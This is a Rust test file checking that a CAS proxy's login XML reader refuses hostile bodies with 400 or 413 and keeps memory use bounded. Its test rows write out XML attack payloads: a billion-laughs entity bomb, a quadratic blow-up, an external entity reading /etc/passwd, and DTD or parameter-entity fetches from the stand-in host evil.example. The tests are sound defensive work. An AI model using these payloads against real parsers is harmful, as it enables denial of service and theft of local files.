//! Bodies of a proxy login made to hurt whoever reads them: each ends in 400 or 413, and costs memory in proportion to
//! its bytes. Counted in a binary of its own, where nothing else allocates.
#![cfg(test)]
#![allow(
    clippy::expect_used,
    clippy::unwrap_used,
    reason = "a test that fails may panic"
)]

use std::{
    convert::Infallible,
    future::Ready,
    task::{Context, Poll},
};

use bytes::Bytes;
use cas_proxy::{
    csc::xml::{MAX_BYTES, MAX_SIDS},
    second_cas::{SecondCasLayer, Verdict, VerifiedCaller},
};
use futures_util::FutureExt;
use http::{Request, Response, request::Parts};
use http_body_util::{BodyExt, Full};
use tower::{Layer, Service};

/// Peak of what is allocated at a time, for each byte of the body, above what any request costs.
///
/// A context takes 76 bytes for a SID, whose element has 25 at least; a body is read into one buffer, which doubles.
const PER_BYTE: u64 = 8;
/// Whatever the body: the head, the future, the timer, the answer, a line of the log.
const FIXED: u64 = 4 * 1024;

#[derive(Clone)]
struct Nobody;

impl<B> Service<Request<B>> for Nobody {
    type Response = Response<Full<Bytes>>;
    type Error = Infallible;
    type Future = Ready<Result<Self::Response, Infallible>>;

    fn poll_ready(&mut self, _: &mut Context<'_>) -> Poll<Result<(), Infallible>> {
        Poll::Ready(Ok(()))
    }

    fn call(&mut self, _: Request<B>) -> Self::Future {
        std::future::ready(Ok(Response::new(Full::default())))
    }
}

/// What a second CAS answers to a login with this body, brought by a CAS it trusts; and the most it held at a time.
fn log_in(body: &[u8]) -> (u16, u64) {
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_time()
        .build()
        .unwrap();
    let _entered = runtime.enter();
    let trusting = |_: &Parts| Verdict::Now(Ok(VerifiedCaller::vouched_for("chicago")));
    let mut service = SecondCasLayer::new(trusting).max_contexts(8).layer(Nobody);
    let body = Bytes::copy_from_slice(body);
    // As it comes from a network.
    let pieces: Vec<_> = body
        .chunks(16 * 1024)
        .map(|piece| Ok::<_, Infallible>(http_body::Frame::data(body.slice_ref(piece))))
        .collect();
    let pieces = http_body_util::StreamBody::new(futures_util::stream::iter(pieces));
    let request = Request::post("/owa/proxyLogon.owa")
        .header("host", "dallas")
        .header("x-owa-proxyuri", "https://mail.contoso.com/owa")
        .header("x-owa-proxyversion", "8.1.240.5")
        .header("x-owa-proxysid", ANNA)
        .body(pieces.boxed_unsync())
        .unwrap();
    let mut status = 0;
    let counted = allocation_counter::measure(|| {
        let answer = service.call(request).now_or_never().expect("no waiting");
        status = answer.unwrap().status().as_u16();
    });
    (status, counted.bytes_max)
}

#[track_caller]
fn refused(what: &str, body: impl AsRef<[u8]>, expected: u16) {
    let body = body.as_ref();
    let (status, most) = log_in(body);
    assert_eq!(status, expected, "{what}");
    let bound = FIXED + PER_BYTE * body.len().min(MAX_BYTES + 16 * 1024) as u64;
    assert!(most <= bound, "{what}: {most} bytes for {}", body.len());
}

fn context(inside: &str) -> String {
    format!("<r at=\"Kerberos\" ln=\"anna\"><s>{ANNA}</s>{inside}</r>")
}

#[test]
//= src/docs/protocol.md#login-reader
fn documents_made_to_hurt_are_400() {
    let dtd = |inside: &str, body: &str| format!("<!DOCTYPE r [{inside}]>{body}");
    let laughs: String = (1..10)
        .map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10)))
        .collect();
    let anna = context("");
    let rows = [
        (
            "billion laughs",
            dtd(
                &format!("<!ENTITY l0 \"ha\">{laughs}"),
                &anna.replace("anna", "&l9;"),
            ),
        ),
        (
            "quadratic blow-up",
            dtd(
                &format!("<!ENTITY a \"{}\">", "a".repeat(50_000)),
                &anna.replace("anna", &"&a;".repeat(50_000)),
            ),
        ),
        (
            "external entity",
            dtd(
                "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
                &anna.replace("anna", "&x;"),
            ),
        ),
        (
            "external document type",
            format!("<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\">{anna}"),
        ),
        (
            "parameter entity",
            dtd("<!ENTITY % x SYSTEM \"http://evil.example/\"> %x;", &anna),
        ),
        (
            "attribute defaults",
            dtd("<!ATTLIST s t CDATA \"1\">", &anna),
        ),
        ("document type behind the root", context("<!DOCTYPE r>")),
        ("entity that nobody declared", anna.replace("anna", "&x;")),
        ("entity of HTML", anna.replace("anna", "&nbsp;")),
        ("reference to NUL", anna.replace("anna", "&#0;")),
        ("reference to a surrogate", anna.replace("anna", "&#xD800;")),
        ("reference to a control", anna.replace("anna", "a&#10;b")),
        (
            "reference without end",
            anna.replace("anna", &"&#".repeat(60_000)),
        ),
        (
            "reference to no character",
            anna.replace("anna", "&#x110000;"),
        ),
        ("reference in a SID", context("<s t=\"1\">S-1-1-&#48;</s>")),
        (
            "depth",
            context(&format!(
                "{}{}",
                "<s>".repeat(30_000),
                "</s>".repeat(30_000)
            )),
        ),
        (
            "depth without end",
            format!("<r at=\"\" ln=\"\">{}", "<s>".repeat(80_000)),
        ),
        ("roots without end", "<r>".repeat(80_000)),
        ("namespace", anna.replace("<r ", "<r xmlns=\"urn:x\" ")),
        (
            "prefix",
            anna.replace("<s>", "<x:s>").replace("</s>", "</x:s>"),
        ),
        ("prefixed attribute", context("<s x:t=\"1\">S-1-1-0</s>")),
        ("attribute twice", anna.replace("<r ", "<r at=\"NTLM\" ")),
        (
            "attribute of a SID twice",
            context("<s t=\"1\" t=\"2\">S-1-1-0</s>"),
        ),
        (
            "attributes without end",
            format!("<r {}>", "a=\"\" ".repeat(40_000)),
        ),
        (
            "attribute without end",
            format!("<r at=\"{}", "a".repeat(200_000)),
        ),
        ("name without end", format!("<{}", "r".repeat(200_000))),
        (
            "logon name without end",
            anna.replace("anna", &"a".repeat(200_000)),
        ),
        ("declaration", format!("<?xml version=\"1.0\"?>{anna}")),
        (
            "encoding",
            format!("<?xml version=\"1.0\" encoding=\"utf-7\"?>{anna}"),
        ),
        ("instruction", context("<?php x?>")),
        ("comment", context("<!-- x -->")),
        (
            "comment without end",
            context(&format!("<!--{}", "-".repeat(200_000))),
        ),
        (
            "CDATA",
            context(&format!("<s t=\"1\"><![CDATA[{ANNA}]]></s>")),
        ),
        ("byte order mark", format!("\u{feff}{anna}")),
        ("text between", context("x")),
        ("something behind", format!("{anna}<r/>")),
        ("NUL behind", format!("{anna}\0")),
        ("second user", context(&format!("<s>{ANNA}</s>"))),
        ("no user", "<r at=\"\" ln=\"\"></r>".to_owned()),
        ("another user", anna.replace(ANNA, "S-1-5-21-1-2-3-500")),
        ("empty", String::new()),
        ("white space", " ".repeat(200_000)),
        ("signs", "<".repeat(200_000)),
        ("ends", "</r>".repeat(60_000)),
        (
            "number without end",
            context(&format!(
                "<s a=\"{}\" t=\"1\">S-1-1-0</s>",
                "9".repeat(200_000)
            )),
        ),
        (
            "SID without end",
            context(&format!("<s t=\"1\">S-1-5{}</s>", "-1".repeat(100_000))),
        ),
    ];
    for (what, body) in rows {
        let expected = if body.len() > MAX_BYTES { 413 } else { 400 };
        refused(what, body, expected);
    }
}

#[test]
//= src/docs/protocol.md#login-reader
fn bytes_that_are_no_utf_8_are_400() {
    let anna = context("");
    let utf_16 = |little: bool, mark: bool| -> Vec<u8> {
        let units = mark
            .then_some(0xfeff)
            .into_iter()
            .chain(anna.encode_utf16());
        let bytes = |unit: u16| {
            if little {
                unit.to_le_bytes()
            } else {
                unit.to_be_bytes()
            }
        };
        units.flat_map(bytes).collect()
    };
    for little in [true, false] {
        for mark in [true, false] {
            refused("UTF-16", utf_16(little, mark), 400);
        }
    }
    refused(
        "UTF-32",
        anna.chars()
            .flat_map(|c| u32::from(c).to_le_bytes())
            .collect::<Vec<_>>(),
        400,
    );
    for stray in [
        &b"\xff"[..],
        b"\xc0\xaf",
        b"\xed\xa0\x80",
        b"\xf4\x90\x80\x80",
        b"\xe0\x80\xaf",
        b"\x80",
        b"+ADw-\xfe",
    ] {
        let mut body = anna.clone().into_bytes();
        let at = body.windows(4).position(|part| part == b"anna").unwrap();
        body.splice(at..at, stray.iter().copied());
        refused("stray bytes", body, 400);
    }
}

#[test]
//= src/docs/protocol.md#login-limit
fn too_much_is_413_and_costs_no_more_than_the_limit() {
    let sids = |count: usize| context(&"<s t=\"1\">S-1-1-0</s>".repeat(count));
    refused("one SID too many", sids(MAX_SIDS), 413);
    refused("thousands too many", sids(8_000), 413);
    let longest = format!("<s t=\"1\">S-1-5{}</s>", "-4294967295".repeat(15));
    refused("long SIDs", context(&longest.repeat(2_000)), 413);
    for length in [MAX_BYTES + 1, 2 * MAX_BYTES, 64 * MAX_BYTES] {
        refused("bytes", "x".repeat(length), 413);
        refused(
            "a context and more",
            format!("{}{}", context(""), " ".repeat(length)),
            413,
        );
    }
}

/// What is sound is taken, within the same bounds.
#[test]
//= src/docs/protocol.md#login-limit
fn the_largest_context_is_taken() {
    let group = "<s a=\"7\" t=\"1\">S-1-5-21-4294967295-4294967295-4294967295-4294967295</s>";
    for groups in [0, 1, 1_023, MAX_SIDS - 1] {
        let body = context(&group.repeat(groups));
        let (status, most) = log_in(body.as_bytes());
        assert_eq!(status, 241, "{groups}");
        println!(
            "{groups} groups, {} bytes: {most} bytes at most",
            body.len()
        );
        assert!(
            most <= FIXED + PER_BYTE * body.len() as u64,
            "{groups}: {most}"
        );
    }
}

const ANNA: &str = "S-1-5-21-1-2-3-1105";
